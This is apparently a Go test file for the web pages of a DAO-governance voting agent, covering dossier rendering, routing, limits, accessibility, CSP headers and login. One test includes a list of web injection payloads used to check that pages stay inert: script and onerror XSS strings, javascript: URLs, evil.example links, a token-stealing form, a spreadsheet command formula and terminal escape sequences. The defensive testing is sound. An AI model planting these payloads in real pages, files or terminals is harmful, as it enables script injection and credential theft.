package web_test

import (
	"bytes"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/legate-dao/legate/agent/dossier"
	"github.com/legate-dao/legate/agent/gov"
	"github.com/legate-dao/legate/notify/web"
)

func pagesOf(d *desk) http.Handler {
	return web.New(d, web.Config{Now: func() time.Time { return wallTime }})
}

func parse(t *testing.T, text string) *html.Node {
	t.Helper()
	n, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// all lists the elements of a page in order.
func all(n *html.Node) []*html.Node {
	var out []*html.Node
	for e := range n.Descendants() {
		if e.Type == html.ElementNode {
			out = append(out, e)
		}
	}
	return out
}

func attr(n *html.Node, name string) (string, bool) {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val, true
		}
	}
	return "", false
}

func textOf(n *html.Node) string {
	var b strings.Builder
	for e := range n.Descendants() {
		if e.Type == html.TextNode {
			b.WriteString(e.Data)
		}
	}
	return strings.Join(strings.Fields(b.String()), " ")
}

func byID(n *html.Node, id string) *html.Node {
	for _, e := range all(n) {
		if v, _ := attr(e, "id"); v == id {
			return e
		}
	}
	return nil
}

func pageOf(t *testing.T, h http.Handler, path string) *html.Node {
	t.Helper()
	r := get(t, h, path, "Accept", "text/html")
	text := body(t, r)
	if r.StatusCode != 200 {
		t.Fatalf("GET %s: %d %s", path, r.StatusCode, text)
	}
	return parse(t, text)
}

// TestDossierPageSays: what the pipeline found is on the page, in words.
func TestDossierPageSays(t *testing.T) {
	d := newDesk(t)
	h := pagesOf(d)
	for _, c := range []struct {
		handle, section string
		says            []string
	}{
		{"meadow/132115", "hero", []string{"Appoint the operations multisig", "Against", "Voted against", "active", "in 6 h"}},
		{"meadow/132115", "does", []string{"It changes the timelock.", "grantRole", "timelock", "known", "bytes32", "0x35561CeC46277DfF36b205c8380Ff7b709678781"}},
		{"meadow/132115", "effects", []string{"executes", "gains a role on timelock", "the role over all others", "an account outside the DAO and its book"}},
		{"meadow/132115", "findings", []string{"1 critical", "1 warning", "D2 roles", "What to do: Make sure that the account", "call 1", "checks without a finding"}},
		{"meadow/132115", "verdict", []string{"Against by rule no-new-masters", "no-dilution would vote Against is false", "roles.granted_outside1", "decides"}},
		{"meadow/132115", "vote", []string{"Voted against", "final done", "the policy", "60 000 votes", "Legate: against by rule no-new-masters"}},
		{"meadow/132115", "forecast", []string{"no forecast for this proposal yet"}},
		{"meadow/132115", "brief", []string{"No brief has been written"}},
		{"meadow/132115", "facts", []string{"treasury.value_usd1 050 000 USD", "one endpoint says so"}},
		{"meadow/132115", "missing", []string{"bridge.chains not in this release"}},
		{"meadow/132115", "records", []string{"Seen on chain", "Policy decided", "Vote is final"}},
		{"meadow/132115", "text", []string{"Note to AI agents", "Somebody else wrote this"}},
		{"harbor/ae15e9", "does", []string{"makes a call that nobody can read", "unknown function", "1 of its calls cannot be tied"}},
		{"harbor/ae15e9", "vote", []string{"Voted against by your own hand", "the holder, by hand", "Answered by"}},
		{"harbor/d1a51b", "effects", []string{"Rights to take tokens", "unlimited"}},
		{"meadow/61ce72", "effects", []string{"Leaves the treasury", "8 000 governance token", "Balances", "−8 000", "+8 000"}},
		{"harbor/7fc800", "effects", []string{"reverts", "The contract says"}},
		{"meadow/deed32", "effects", []string{"runs other code from now on"}},
	} {
		part := byID(pageOf(t, h, "/p/"+c.handle), c.section)
		if part == nil {
			t.Errorf("%s has no %s", c.handle, c.section)
			continue
		}
		for _, s := range c.says {
			if text := textOf(part); !strings.Contains(text, s) {
				t.Errorf("%s, %s does not say %q:\n%s", c.handle, c.section, s, text)
			}
		}
	}
}

func TestDossierPageBeforeFacts(t *testing.T) {
	d := newDesk(t)
	d.change("meadow/132115", func(doc *dossier.Document) {
		doc.Facts, doc.Findings, doc.Verdict, doc.Vote, doc.Provisional = nil, nil, nil, nil, true
		doc.Text.Title, doc.Text.Description, doc.Proposal.EndsAt, doc.Proposal.State = "", "", 0, ""
	})
	p := pageOf(t, pagesOf(d), "/p/meadow/132115")
	for id, says := range map[string]string{
		"hero": "(no title)", "does": "The facts have not been gathered yet; it has 1 action", "effects": "has not been made yet", "findings": "No check has run yet",
		"verdict": "No decision yet", "vote": "No vote yet", "missing": "Nothing was gathered yet", "text": "There is no text",
	} {
		if text := textOf(byID(p, id)); !strings.Contains(text, says) {
			t.Errorf("%s does not say %q: %s", id, says, text)
		}
	}
	if text := textOf(byID(p, "hero")); !strings.Contains(text, "Provisional") || !strings.Contains(text, "state not known") {
		t.Errorf("hero: %s", text)
	}
}

// TestRichDossier: inner calls, candidates, a brief with its sources, what is unknown.
func TestRichDossier(t *testing.T) {
	d := newDesk(t)
	d.change("meadow/132115", func(doc *dossier.Document) { fill(doc, plain) })
	p := pageOf(t, pagesOf(d), "/p/meadow/132115")
	for id, says := range map[string][]string{
		"call-0.1": {"unknown function", "words of candidate", "Anybody can write names"},
		"call-0.0": {"words of string argument", "words of second"},
		"brief":    {"words of headline", "words of sentences1", "words of source one", "was asked and its answer is not used: slow", "words of cut", "the calls say otherwise", "The text says something else"},
		"verdict":  {"missing.one unknown"},
		"effects":  {"words of revert reason"},
		"forecast": {"treasury.runway_days.p05 91 days, 181 without", "dilution.p95 unknown", "5 000 draws, seed words of engine seed", "nobody's positions are known"},
	} {
		e := byID(p, id)
		if e == nil {
			t.Errorf("no %s", id)
			continue
		}
		for _, s := range says {
			if text := textOf(e); !strings.Contains(strings.ReplaceAll(text, " ", ""), strings.ReplaceAll(s, " ", "")) {
				t.Errorf("%s does not say %q: %s", id, s, text)
			}
		}
	}
	// every citation leads to its source, s2 before s10, and an id that is not ours is none
	if byID(p, "source-s1") == nil || byID(p, "source-s10") == nil || strings.Contains(textOf(byID(p, "brief")), "source three") {
		t.Error("sources")
	}
}

func TestListPage(t *testing.T) {
	d := newDesk(t)
	h := pagesOf(d)
	d.change("meadow/deed32", held)
	p := pageOf(t, h, "/")
	if text := textOf(byID(p, "group-waiting")); !strings.Contains(text, "Fix a typo") || !strings.Contains(text, "Waits for you: no rule of the policy applies") {
		t.Errorf("waiting: %s", text)
	}
	if text := textOf(byID(p, "group-open")); !strings.Contains(text, "Appoint the operations multisig") || !strings.Contains(text, "1 critical") || strings.Contains(text, "Fix a typo") {
		t.Errorf("open: %s", text)
	}
	if text := textOf(byID(p, "filters")); text != "All 6 Waiting for you 1 Open 6 Over 0" {
		t.Errorf("filters: %s", text)
	}
	if w := pageOf(t, h, "/?show=waiting"); byID(w, "group-open") != nil || byID(w, "group-waiting") == nil {
		t.Error("the filter shows more than what waits")
	}
	if text := textOf(byID(pageOf(t, h, "/?show=over"), "empty")); !strings.Contains(text, "Nothing is over yet") {
		t.Errorf("nothing over: %s", text)
	}
	for n := 1; n <= 230; n++ {
		d.add(over(d.docs[0], n))
	}
	h = pagesOf(d)
	if text := textOf(byID(pageOf(t, h, "/"), "group-over")); strings.Count(text, "executed") != 25 || !strings.Contains(text, "205 more") {
		t.Errorf("over: %.300s", text)
	}
	for page, want := range map[string]int{"1": 100, "3": 30, "99": 30, "-5": 100, "x": 100} {
		if got := strings.Count(textOf(byID(pageOf(t, h, "/?show=over&page="+page), "group-over")), "executed"); got != want {
			t.Errorf("page %s has %d rows, want %d", page, got, want)
		}
	}
	if text := textOf(byID(pageOf(t, pagesOf(&desk{}), "/"), "empty")); !strings.Contains(text, "No proposal has been seen yet") {
		t.Errorf("an empty store: %s", text)
	}
}

func TestBanners(t *testing.T) {
	d := newDesk(t)
	if text := textOf(byID(pageOf(t, pagesOf(d), "/"), "banners")); text != "" {
		t.Errorf("all is well and there is a banner: %s", text)
	}
	d.status.Live, d.status.Frozen = false, gov.Known(true)
	d.status.Chains[0].Followed, d.status.Chains[0].Error = false, "dial <b>tcp</b>"
	text := textOf(byID(pageOf(t, pagesOf(d), "/p/meadow/132115"), "banners"))
	for _, s := range []string{"All signing is frozen", "Not live", "eip155:31337 is not followed to its head", "“dial <b>tcp</b>”"} {
		if !strings.Contains(text, s) {
			t.Errorf("no banner says %q: %s", s, text)
		}
	}
}

// TestAddresses: what people type, paste and mistype.
func TestAddresses(t *testing.T) {
	d := newDesk(t)
	d.add(func() dossier.Document { o := over(d.docs[0], 77); return o }())
	h := pagesOf(d)
	var full string
	for _, doc := range d.docs {
		if doc.Handle == "meadow/132115" {
			full = doc.ID.String()
		}
	}
	for _, c := range []struct {
		path string
		code int
		has  string
	}{
		{"/p/meadow/132115", 200, "operations multisig"},
		{"/p/" + string(d.docs[0].Proposal.Name) + "/77", 200, "executed"},
		{"/p/meadow/132115f8", 302, "/p/meadow/132115"},
		{"/p/meadow/132115F8", 302, "/p/meadow/132115"},
		{"/p/" + full, 302, "/p/meadow/132115"},
		{"/p/meadow/13211", 404, "no such proposal"},
		{"/p/meadow/", 404, "no such proposal"},
		{"/p/", 404, "no such proposal"},
		{"/p/%3Cscript%3E/1", 404, "no such proposal"},
		{"/p/" + strings.Repeat("a/", 3000), 404, "no such proposal"},
		{"/q", 404, "nothing at this address"},
		{"/assets/0/legate.css", 404, "no such file"},
		{"/?show=%3Cscript%3E", 200, "Proposals"},
	} {
		r := get(t, h, c.path, "Accept", "text/html")
		text := body(t, r) + r.Header.Get("Location")
		if r.StatusCode != c.code || !strings.Contains(text, c.has) || strings.Contains(text, "<script>") {
			t.Errorf("GET %.60s: %d, want %d with %q: %.200s", c.path, r.StatusCode, c.code, c.has, text)
		}
	}
	var log bytes.Buffer
	broken := web.New(&store{err: errors.New("secret")}, web.Config{Log: slog.New(slog.NewTextHandler(&log, nil))})
	for _, p := range []string{"/", "/p/a/1"} {
		r := get(t, broken, p, "Accept", "text/html")
		if text := body(t, r); r.StatusCode != 500 || strings.Contains(text, "secret") {
			t.Errorf("a broken store at %s: %d %s", p, r.StatusCode, text)
		}
		if !strings.Contains(log.String(), "error=secret") {
			t.Errorf("%s: the log does not say why: %q", p, log.String())
		}
		log.Reset()
	}
}

// TestAmbiguousHandle: a link from a time when a shorter handle was enough says so.
func TestAmbiguousHandle(t *testing.T) {
	d := newDesk(t)
	doc := d.docs[len(d.docs)-1]
	twin := doc
	n := doc.ID.Number.Int()
	n.AddUint64(n, 1)
	twin.ID.Number = gov.AmountOf(n)
	short := doc.Handle
	d.docs[len(d.docs)-1].Handle, twin.Handle = doc.ID.Handle(doc.Proposal.Name, 64), twin.ID.Handle(doc.Proposal.Name, 64)
	d.add(twin)
	r := get(t, pagesOf(d), "/p/"+short, "Accept", "text/html")
	if text := body(t, r); r.StatusCode != 404 || !strings.Contains(text, "2 proposals begin like this") {
		t.Errorf("%d %s", r.StatusCode, text)
	}
}

// TestStoreIsSpared: many who look at once, and a page that asks for news, read the store once a revision.
func TestStoreIsSpared(t *testing.T) {
	d := newDesk(t)
	m := web.NewMetrics()
	h := web.New(d, web.Config{Metrics: m})
	first := body(t, get(t, h, "/live"))
	for range 30 {
		get(t, h, "/")
		if body(t, get(t, h, "/live")) != first {
			t.Fatal("the revision changes without a record")
		}
	}
	if d.lists != 1 {
		t.Errorf("the list was read %d times", d.lists)
	}
	record, err := dossier.Encode(testID, 1, wallTime, dossier.WasClosed{})
	if err != nil {
		t.Fatal(err)
	}
	m.Observe(record)
	if body(t, get(t, h, "/live")) == first {
		t.Error("a record gives no new revision")
	}
	get(t, h, "/")
	if d.lists != 2 {
		t.Errorf("after a record the list was read %d times", d.lists)
	}
	second := body(t, get(t, h, "/live"))
	d.status.Frozen = gov.Known(true)
	if body(t, get(t, h, "/live")) == second {
		t.Error("a freeze gives no new revision")
	}
}

// TestLargeText: a text of 10 MB, or of one endless line, is cut on the page and named.
func TestLargeText(t *testing.T) {
	d := newDesk(t)
	d.change("meadow/132115", func(doc *dossier.Document) {
		doc.Text.Description = dossier.Untrusted(strings.Repeat("<b>\u202ex ", 1_300_000))
		doc.Text.Title = dossier.Untrusted(strings.Repeat("T", 1<<20))
	})
	start := time.Now()
	r := get(t, pagesOf(d), "/p/meadow/132115")
	text := body(t, r)
	if r.StatusCode != 200 || len(text) > 1<<20 || !strings.Contains(text, "cut here") {
		t.Errorf("%d with %d bytes", r.StatusCode, len(text))
	}
	if took := time.Since(start); took > 3*time.Second {
		t.Errorf("took %s", took)
	}
}

// TestDeepAndWideCalls: a tree as hostile as the decoder lets through does not stop the page.
func TestDeepAndWideCalls(t *testing.T) {
	d := newDesk(t)
	d.change("meadow/132115", func(doc *dossier.Document) {
		edit(doc, func(facts map[string]any) {
			call := facts["calls"].([]any)[0].(map[string]any)
			deep := clone(call)
			for range 64 {
				next := clone(call)
				next["children"] = []any{deep}
				deep = next
			}
			calls := []any{deep}
			for range 3000 {
				calls = append(calls, call)
			}
			facts["calls"] = calls
		})
	})
	r := get(t, pagesOf(d), "/p/meadow/132115")
	if text := body(t, r); r.StatusCode != 200 || len(text) > 2<<20 || !strings.Contains(text, "2\u202f801 more calls") {
		t.Errorf("%d with %d bytes", r.StatusCode, len(text))
	}
}

// TestPageStructure: landmarks, headings in order, names for all controls, unique ids, nothing inline.
func TestPageStructure(t *testing.T) {
	d := newDesk(t)
	d.change("meadow/132115", func(doc *dossier.Document) { fill(doc, plain) })
	h := pagesOf(d)
	paths := []string{"/", "/?show=waiting"}
	for _, doc := range d.docs {
		paths = append(paths, "/p/"+doc.Handle)
	}
	for _, path := range paths {
		p := pageOf(t, h, path)
		count, ids, level := map[string]int{}, map[string]bool{}, 0
		for _, e := range all(p) {
			count[e.Data]++
			if id, ok := attr(e, "id"); ok {
				if ids[id] {
					t.Errorf("%s: two elements have the id %q", path, id)
				}
				ids[id] = true
			}
			for _, a := range e.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" {
					t.Errorf("%s: %s has %s", path, e.Data, a.Key)
				}
			}
			if len(e.Data) == 2 && e.Data[0] == 'h' && e.Data[1] >= '1' && e.Data[1] <= '6' {
				n := int(e.Data[1] - '0')
				if n > level+1 {
					t.Errorf("%s: heading %q skips from h%d to h%d", path, textOf(e), level, n)
				}
				level = n
			}
			if (e.Data == "a" || e.Data == "button" || e.Data == "summary") && textOf(e) == "" {
				t.Errorf("%s: a %s without a name", path, e.Data)
			}
		}
		for _, e := range all(p) {
			if label, ok := attr(e, "aria-labelledby"); ok && !ids[label] {
				t.Errorf("%s: nothing has the id %q", path, label)
			}
			if to, _ := attr(e, "href"); strings.HasPrefix(to, "#") && !ids[to[1:]] {
				t.Errorf("%s: a link leads to %q, which is not there", path, to)
			}
		}
		if count["main"] != 1 || count["h1"] != 1 || count["header"] < 1 || count["nav"] < 1 || count["footer"] != 1 || count["style"] != 0 || count["script"] != 1 {
			t.Errorf("%s: %v", path, count)
		}
	}
	r := get(t, h, "/")
	csp := r.Header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("policy %q lacks %s", csp, want)
		}
	}
	if strings.Contains(csp, "unsafe") || r.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("headers %v", r.Header)
	}
}

// shape is a page without its texts: elements with their attributes and values.
func shape(n *html.Node) string {
	var b strings.Builder
	for _, e := range all(n) {
		fmt.Fprint(&b, "<", e.Data)
		for _, a := range e.Attr {
			fmt.Fprintf(&b, " %s=%q", a.Key, a.Val)
		}
		b.WriteString(">\n")
	}
	return b.String()
}

// TestG30PagesAreInert: 200 payloads in every text field that a stranger, a model or a node can write: the page has the
// very elements, attributes and addresses that it has with plain words, and the payloads are in it as text.
func TestG30PagesAreInert(t *testing.T) {
	at := func(say words) (list, page, raw string) {
		d := newDesk(t)
		d.change("meadow/132115", func(doc *dossier.Document) { fill(doc, say) })
		d.status.Chains[0].Followed, d.status.Chains[0].Error = false, dossier.Untrusted(say("node"))
		model := say("model")
		d.status.Model = &model
		h := web.New(d, web.Config{Now: func() time.Time { return wallTime }})
		one, two := body(t, get(t, h, "/")), body(t, get(t, h, "/p/meadow/132115"))
		cut := func(s string) string { // the revision and what hangs on the boot of a handler
			i := strings.Index(s, `data-revision="`)
			return s[:i] + s[i+len(`data-revision="`)+16:]
		}
		return shape(parse(t, cut(one))), shape(parse(t, cut(two))), one + two
	}
	wantList, wantPage, _ := at(plain)
	if len(payloads) < 200 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	for i, p := range payloads {
		list, page, raw := at(func(place string) string {
			if place == "source id" { // an id is a key of a map, of which one is ours
				return "x" + p
			}
			return p
		})
		if list != wantList {
			t.Fatalf("payload %d %q changes the list", i, p)
		}
		if page != wantPage {
			t.Fatalf("payload %d %q changes the page:\n%s", i, p, firstDifference(wantPage, page))
		}
		for _, r := range raw {
			if r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r < 0xa0 || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r >= 0xe0000 && r <= 0xe007f || r == 0x200b || r == 0xfeff {
				t.Fatalf("payload %d %q: U+%04X is on the page", i, p, r)
			}
		}
	}
}

func firstDifference(a, b string) string {
	x, y := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := range min(len(x), len(y)) {
		if x[i] != y[i] {
			return "-" + x[i] + "\n+" + y[i]
		}
	}
	return fmt.Sprintf("%d and %d elements", len(x), len(y))
}

// payloads try to become active somewhere: markup, addresses, scripts, templates, terminals, spreadsheets, chats.
var payloads = func() []string {
	seeds := []string{
		`<script>window.pwned=1</script>`, `</title><script>window.pwned=1</script>`, `</textarea><script>window.pwned=1</script>`, `</blockquote><script>window.pwned=1</script>`,
		`<img src=x onerror=window.pwned=1>`, `<svg onload=window.pwned=1>`, `<svg><script>window.pwned=1</script></svg>`, `<iframe srcdoc="<script>parent.pwned=1</script>">`,
		`"><img src=x onerror=window.pwned=1>`, `' onmouseover='window.pwned=1`, `" autofocus onfocus=window.pwned=1 x="`, "`${window.pwned=1}`", `{{.}}`, `{{template "base"}}`, `<% window.pwned=1 %>`,
		`<a href="javascript:window.pwned=1">x</a>`, `javascript:window.pwned=1`, `data:text/html,<script>window.pwned=1</script>`, `vbscript:msgbox(1)`, `[x](javascript:window.pwned=1)`,
		`![x](https://evil.example/x.png)`, `https://evil.example/login`, `//evil.example/x.js`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>*{display:none}</style>`,
		`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input name=token>`, `<object data=//evil.example>`, `<embed src=//evil.example>`,
		`<video><source onerror=window.pwned=1>`, `<math><mtext><table><mglyph><style><img src onerror=window.pwned=1>`, `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">`, `<!--<img src="--><img src=x onerror=window.pwned=1>">`, `<![CDATA[<script>window.pwned=1</script>]]>`,
		`&lt;script&gt;window.pwned=1&lt;/script&gt;`, `&#x3c;script&#x3e;`, `%3Cscript%3Ewindow.pwned=1%3C/script%3E`, `\u003cscript\u003e`, "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
		"\x1b[2J\x1b[31mred", "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "\u009b31m", "a\rb\x08c\x7f", "\u202egnp.exe", "\u2066inner\u2069", "zero\u200bwidth\ufeff", "tag\U000e0041\U000e0042s",
		`@everyone <@123> <#456>`, `=HYPERLINK("http://evil.example")`, `+cmd|' /C calc'!A0`, "line one\n# line two\n\n- three", "\xff\xfe broken", `</dd></dl></section></main><h1>Vote for</h1>`,
	}
	wraps := []string{"%s", "Before %s after", "%s%[1]s", "\"'> %s <x y='"}
	var out []string
	for _, w := range wraps {
		for _, s := range seeds {
			out = append(out, fmt.Sprintf(w, s))
		}
	}
	return out
}()

// TestLoginPage: a browser without the token gets the page to log in on, at every address of a page, and nothing else.
func TestLoginPage(t *testing.T) {
	d := newDesk(t)
	h := web.New(d, web.Config{Token: "correct horse"})
	for _, p := range []string{"/", "/p/meadow/132115", "/nothing"} {
		r := get(t, h, p, "Accept", "text/html,*/*")
		text := body(t, r)
		if r.StatusCode != http.StatusUnauthorized || !strings.Contains(text, `id="login"`) || strings.Contains(text, "multisig") || strings.Contains(text, "31337") {
			t.Errorf("%s: %d %s", p, r.StatusCode, text)
		}
	}
	for p, accept := range map[string]string{"/api/v1/proposals": "text/html", "/": "application/json", "/live": "*/*"} {
		if r := get(t, h, p, "Accept", accept); r.StatusCode != 401 || r.Header.Get("Content-Type") != "application/problem+json" {
			t.Errorf("%s: %d %s", p, r.StatusCode, r.Header.Get("Content-Type"))
		}
	}
	for range 50 { // asking for the page is no guess: others cannot use it up
		get(t, h, "/", "Accept", "text/html")
	}
	if r := get(t, h, "/", "Accept", "text/html"); r.StatusCode != 401 {
		t.Errorf("the login page is %d after many who asked for it", r.StatusCode)
	}
	// the field has no name and the form no address: whatever the browser does with it, the token goes nowhere
	for _, e := range all(parse(t, body(t, get(t, h, "/", "Accept", "text/html")))) {
		if _, named := attr(e, "name"); named && e.Data == "input" {
			t.Error("the field for the token has a name")
		}
		if _, ok := attr(e, "action"); ok {
			t.Error("the form has an address")
		}
	}
	for _, a := range []string{"legate.css", "legate.js"} {
		page := body(t, get(t, h, "/", "Accept", "text/html"))
		i := strings.Index(page, "/assets/")
		for i >= 0 && !strings.HasPrefix(page[i+len("/assets/")+13:], a) {
			next := strings.Index(page[i+1:], "/assets/")
			if next < 0 {
				i = -1
				break
			}
			i += 1 + next
		}
		if i < 0 {
			t.Fatalf("no %s on the login page", a)
		}
		path, _, _ := strings.Cut(page[i:], `"`)
		if r := get(t, h, path); r.StatusCode != 200 || !strings.Contains(r.Header.Get("Cache-Control"), "immutable") {
			t.Errorf("%s: %d %v", path, r.StatusCode, r.Header)
		}
	}
}
